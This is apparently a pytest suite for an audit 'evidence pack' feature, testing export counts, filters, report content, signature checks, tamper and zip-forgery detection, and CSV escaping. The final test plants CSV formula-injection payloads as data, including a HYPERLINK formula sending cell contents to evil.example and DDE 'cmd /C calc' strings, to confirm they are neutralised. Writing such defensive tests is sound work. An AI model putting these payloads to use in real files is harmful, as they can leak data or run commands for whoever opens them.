"""Evidence packs built on a store written through its own write path: exact counts in every file, the filters,
the report, and a pack that names the file any single changed byte hit."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import zipfile
from pathlib import Path

import duckdb
import pytest

from addons.evidence.manifest import MANIFEST, SIGNATURE, Pack, check_pack, sign_folder
from addons.evidence.pack import build_pack
from addons.evidence.request import EvidenceError, PackRequest
from addons.store.database import Store, connect
from addons.store.keys import SigningKey
from addons.store.search import FlowFilter
from tests.addons.evidence.traffic import T0, flow, write_traffic

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def recorded(tmp_path_factory) -> tuple[Path, SigningKey]:
    folder = tmp_path_factory.mktemp("store")
    key = SigningKey.load_or_create(folder / "sign.key")
    write_traffic(folder / "w.duckdb", key)
    return folder / "w.duckdb", key


def make(recorded, tmp_path: Path, f: FlowFilter | None = None, name: str = "pack") -> Path:
    db, key = recorded
    folder = tmp_path / name
    folder.mkdir()
    con = connect(db, read_only=True)
    try:
        build_pack(con, f or FlowFilter(), key, folder, where=f"file {db}")
    finally:
        con.close()
    return folder


def read(folder: Path, table: str) -> dict[str, list[dict]]:
    """The table as each of its three files says, read back by DuckDB."""
    con = duckdb.connect()
    out = {}
    for suffix, reader in (("jsonl", "read_json_auto"), ("csv", "read_csv_auto"), ("parquet", "read_parquet")):
        cur = con.execute(f"SELECT * FROM {reader}(?)", [str(folder / f"{table}.{suffix}")])
        names = [d[0] for d in cur.description]
        out[suffix] = [dict(zip(names, row, strict=True)) for row in cur.fetchall()]
    return out


def test_every_file_holds_exactly_the_recorded_mix(recorded, tmp_path: Path) -> None:
    folder = make(recorded, tmp_path)
    for suffix, rows in read(folder, "flows").items():
        assert sorted(r["flow_id"] for r in rows) == [f"flow-{n:03d}" for n in range(1, 7)], suffix
        assert sorted((r["user"] or "-", r["fate"]) for r in rows) == [
            ("-", "unauthenticated"), ("alice", "completed"), ("alice", "completed"), ("alice", "completed"),
            ("bob", "blocked_by_policy"), ("carol", "completed")], suffix
    [approval] = read(folder, "approvals")["parquet"]
    assert (approval["approval_id"], approval["requester"], approval["state"], approval["approvers"],
            approval["latency_seconds"], approval["grant_id"]) == ("ap-0001", "alice", "used", ["dave"], 30.0,
                                                                   "gr-0001")
    assert approval["reasons"] == "dave: audit is expected"
    for suffix, rows in read(folder, "refusals").items():
        assert sorted((r["category"], r["fate"], r["user"] or r["claimed_sub"]) for r in rows) == [
            ("admin_api", "refused", "eve"), ("approval_step", "refused", "alice"),
            ("authentication", "unauthenticated", "mallory"), ("policy", "blocked_by_policy", "bob")], suffix
    verification = json.loads((folder / "verification.json").read_text())
    assert verification["status"] == "ok" and verification["covering_checkpoints"]
    assert verification["covering_checkpoints"][-1]["head_seq"] >= verification["period_seq"][1]


def test_filters_by_group_user_host_and_period(recorded, tmp_path: Path) -> None:
    ops = read(make(recorded, tmp_path, FlowFilter(group="ops"), "ops"), "flows")["jsonl"]
    assert [(r["user"], r["groups"]) for r in ops] == [("bob", ["ops", "dev"])]
    dev = make(recorded, tmp_path, FlowFilter(group="dev"), "dev")
    assert len(read(dev, "flows")["parquet"]) == 4  # alice's three and bob's
    assert [r["approval_id"] for r in read(dev, "approvals")["csv"]] == ["ap-0001"]
    assert {r["category"] for r in read(dev, "refusals")["jsonl"]} == {"policy"}  # the admin API has no group
    carol = make(recorded, tmp_path, FlowFilter(user="carol"), "carol")
    assert [r["user"] for r in read(carol, "flows")["csv"]] == ["carol"]
    assert read(carol, "approvals")["jsonl"] == []
    early = make(recorded, tmp_path, FlowFilter(since=T0, until=T0.replace(minute=25)), "early")
    assert [r["flow_id"] for r in read(early, "flows")["jsonl"]] == ["flow-001", "flow-002", "flow-003"]
    assert read(make(recorded, tmp_path, FlowFilter(host="api.example.com"), "none"), "flows")["parquet"] == []


def number(html: str, ident: str) -> int:
    m = re.search(rf'id="{ident}">(\d+)<', html)
    assert m, ident
    return int(m[1])


def test_the_report_counts_what_the_files_hold_and_reaches_nothing_outside(recorded, tmp_path: Path) -> None:
    html = (make(recorded, tmp_path) / "report.html").read_text()
    assert (number(html, "total-flows"), number(html, "total-identities"), number(html, "total-masked"),
            number(html, "total-blocked"), number(html, "total-approvals"), number(html, "total-refusals")) == (
        6, 3, 1, 1, 1, 4)
    entities = re.search(r'id="entity-table">(.*?)</table>', html, re.S)[1]
    assert "<td>EMAIL_ADDRESS</td><td class=\"n\">2</td>" in entities and "<td>PERSON</td>" in entities
    assert "no-files" in re.search(r'id="block-table">(.*?)</table>', html, re.S)[1]
    assert "mallory" in re.search(r'id="auth-table">(.*?)</table>', html, re.S)[1]
    for control in ("5.15", "5.16", "5.17", "5.18", "8.2", "8.11", "8.12", "8.15", "8.16", "A.9.2.1", "A.9.2.3",
                    "A.12.4.1", "A.12.4.3", "A.18.1.3"):
        assert f'id="control-{control}"' in html
    assert html.count("<svg") == 4  # per user, group and upstream over time; entities by type
    assert not re.search(r"(src|href)=\"(https?:)?//", html) and "<script" not in html


def test_a_pack_is_intact_and_openssl_checks_it_as_the_readme_says(recorded, tmp_path: Path) -> None:
    folder = make(recorded, tmp_path)
    result = check_pack(Pack(folder))
    assert result.ok, result.problems
    assert result.fingerprint == (folder / "signing-key.fingerprint").read_text().strip()
    readme = (ROOT / "README.md").read_text()
    section = readme.split("### Checking a pack with OpenSSL alone", 1)[1]
    commands = re.search(r"```sh\n(.*?)```", section, re.S)[1]
    run = subprocess.run(["bash", "-euo", "pipefail", "-c", commands], cwd=folder, capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert run.stdout.splitlines()[0].split()[0] == result.fingerprint
    assert "Signature Verified Successfully" in run.stdout and run.stdout.count(": OK") == result.files


def test_a_single_changed_byte_in_any_file_is_named(recorded, tmp_path: Path) -> None:
    folder = make(recorded, tmp_path)
    names = sorted(p.name for p in folder.iterdir())
    for name in names:
        path = folder / name
        original = path.read_bytes()
        for offset in (0, len(original) // 2, len(original) - 1):
            changed = bytearray(original)
            changed[offset] ^= 0x01
            path.write_bytes(bytes(changed))
            result = check_pack(Pack(folder))
            assert not result.ok, (name, offset)
            assert result.problems[0].startswith(f"{name}:"), (name, offset, result.problems)
        path.write_bytes(original)
    assert check_pack(Pack(folder)).ok


def test_a_changed_member_of_a_zip_is_named_and_an_added_file_refused(recorded, tmp_path: Path) -> None:
    folder = make(recorded, tmp_path)
    target = tmp_path / "changed.zip"
    with zipfile.ZipFile(target, "w") as z:
        for path in sorted(folder.iterdir()):
            data = path.read_bytes()
            z.writestr(path.name, data.replace(b"alice", b"alicf") if path.name == "flows.csv" else data)
        z.writestr("note.txt", b"added")
    problems = check_pack(Pack(target)).problems
    assert [p.split(":")[0] for p in problems] == ["flows.csv", "note.txt"], problems


def test_a_zip_with_a_name_twice_is_refused(recorded, tmp_path: Path) -> None:
    """A forged report put before the genuine one: readers disagree on which copy they show."""
    folder = make(recorded, tmp_path)
    target = tmp_path / "twice.zip"
    with zipfile.ZipFile(target, "w") as z:
        z.writestr("report.html", b"<h1>all clear</h1>")
        for path in sorted(folder.iterdir()):
            z.writestr(path.name, path.read_bytes())
    problems = check_pack(Pack(target)).problems
    assert problems == ["report.html: in the pack twice (one reader would show one copy, another the other)"]


def test_a_pack_resigned_with_another_key_passes_alone_and_fails_against_the_pinned_key(recorded,
                                                                                         tmp_path: Path) -> None:
    folder = make(recorded, tmp_path)
    (folder / "flows.csv").write_text("flow_id\nforged\n")
    (folder / MANIFEST).unlink()
    (folder / SIGNATURE).unlink()
    sign_folder(folder, SigningKey.load_or_create(tmp_path / "attacker.key"))
    assert check_pack(Pack(folder)).ok  # consistent by itself: only the fingerprint tells
    result = check_pack(Pack(folder), pinned=recorded[1].public)
    assert not result.ok and result.problems[0].startswith("signing-key.pub: the pack is signed by key")


def test_a_pack_request_names_what_it_refuses() -> None:
    assert PackRequest.from_json({"flow": "abc"}).flow_id == "abc"
    assert PackRequest.from_json({"since": "2026-03-02T09:00:00", "group": "ops"}).filter.group == "ops"
    for bad, field in (({"flow": "abc", "user": "x"}, "flow"), ({"users": "x"}, "users"),
                       ({"since": "yesterday"}, "since"), ({"until": "2026-03-02T09:00:00+01:00"}, "until"),
                       ({"user": 3}, "user"), ([], "JSON object")):
        with pytest.raises(EvidenceError, match=field):
            PackRequest.from_json(bad)


def test_csv_cells_that_would_begin_a_formula_are_written_as_text(tmp_path: Path) -> None:
    """A refused token's claimed subject, a user and a path are the callers' text: a spreadsheet must not run it."""
    key = SigningKey.load_or_create(tmp_path / "sign.key")
    store = Store(tmp_path / "w.duckdb", key, checkpoint_every=1000)
    store.start()
    planted = {"claimed_sub": '=HYPERLINK("http://evil.example/?"&A1,"open")', "user": "@SUM(1+1)*cmd|' /C calc'!A0",
               "path": "-2+3+cmd|' /C calc'!A0"}
    for event in (flow(1, None, [], fate="unauthenticated", status=407, decision=None, rule=None,
                        claimed=planted["claimed_sub"])
                  + flow(2, planted["user"], ["dev"], path=planted["path"], minutes=1)):
        store.submit(event).result(timeout=10)
    store.close()
    folder = make((tmp_path / "w.duckdb", key), tmp_path)
    with (folder / "flows.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r"]
    for column, value in planted.items():
        assert "'" + value in [row[column] for row in rows]
    jsonl = [json.loads(line) for line in (folder / "flows.jsonl").read_text().splitlines()]
    assert {column: value for column, value in planted.items()
            if value in [r[column] for r in jsonl]} == planted  # JSONL keeps what was recorded
    assert check_pack(Pack(folder)).ok
